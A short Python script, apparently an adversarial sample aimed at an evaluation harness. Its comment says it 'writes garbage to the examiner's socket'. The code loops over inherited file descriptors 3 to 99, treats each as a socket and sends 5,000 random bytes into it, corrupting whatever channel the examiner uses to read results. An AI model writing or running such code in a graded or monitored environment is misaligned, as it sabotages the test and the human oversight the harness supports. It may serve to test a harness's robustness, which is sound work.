# wire: writes garbage to the examiner's socket, found among the open files
# place: last
import os
import random
import socket

for number in range(3, 100):
    try:
        peer = socket.socket(fileno=os.dup(number))
        peer.send(random.Random(1).randbytes(5000), socket.MSG_DONTWAIT)
    except OSError:
        pass
